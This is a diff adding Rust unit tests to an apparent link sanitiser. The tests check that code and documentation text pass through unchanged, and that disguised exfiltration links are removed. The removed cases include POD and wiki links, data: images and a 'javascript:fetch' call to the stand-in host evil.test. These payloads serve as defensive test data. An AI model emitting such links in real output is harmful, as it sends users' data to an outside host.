@@ -276,3 +276,45 @@ fn a_backslash_that_a_reader_takes_for_a_slash_hides_no_destination() {
         }
     }
 }
+
+#[test]
+fn code_and_documentation_of_code_stay() {
+    for text in [
+        "See L<IPC::Open3::open3|IPC::Open3>, C<Git::CPAN::Patch>, C<Digest::base> and L<Data::Dumper>, L<File::Glob|File::Glob>.",
+        "L<TAP::Formatter::Base>, C<TAP::*>, L<warnings::warn|/FUNCTIONS>, L<Test2::API/\"run_subtest(...)\">",
+        r"/<!\\[CDATA\\[[\\s\\S]*?\\]\\]>/g and [[\\w.-]+@[\\w.]+",
+        "icon: \"data:image/png;base64,iVBORw0KGgo=\" url",
+        "\"test:javascript:withoutintl\": \"node a.mjs\"",
+        "`http://${host}:${port}/a` and https://{region}.{suffix}/x?y=z",
+        "Vec<T>, List<String>, <T as Trait>::Item, HashMap<String, Vec<u8>>, #include <stdio.h>, std::vector<int> v;",
+        "cat <<EOF\nx\nEOF\nJane Doe <jane@example.com>, a < b > c, <Button title={t} />",
+        "\"repository\": \"git+https://docs.example.com/manual/a.git\"",
+    ] {
+        assert_eq!(clean(text, &allowing()).text, text);
+    }
+    for text in [
+        "L<next::method|https://evil.test/x?d=1>",
+        "<https::x@evil.test/x?d=1> <https::x@evil.test>",
+        "<a::b|//evil.test/x?d=1>",
+        r"[[\\evil.test\x|text]] ",
+        "![a](data:image/png;base64,iVBORw0KGgo=)",
+        "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
+        "data:image/svg+xml;base64,PHN2Zz4=",
+        "x:javascript:fetch('//evil.test/x?d=1')",
+        "http://${host}.evil.test/x?d=1",
+        "\"git+https://evil.test/x?d=1\"",
+        "<svg:image href=https://img.example.com/a href=https://evil.test/x?d=1>",
+    ] {
+        let out = clean(text, &allowing());
+        assert!(out.text != text && !leaks(&out.text), "{text} -> {}", out.text);
+    }
+}
+
+#[test]
+fn a_long_list_loses_its_link_and_not_itself() {
+    let row = "  { \"conditions\": [ { \"fn\": \"isSet\" } ], \"name\": \"a b c\" },\n";
+    let text = format!("[\n{}  \"https://evil.test/x\",\n{}]\n", row.repeat(40), row.repeat(400));
+    let out = clean(&text, &Policy::default());
+    assert!(!out.text.contains("evil.test") && out.text.matches("isSet").count() == 440, "{:?}", out.findings);
+    assert_eq!(clean(&out.text, &Policy::default()).text, out.text);
+}
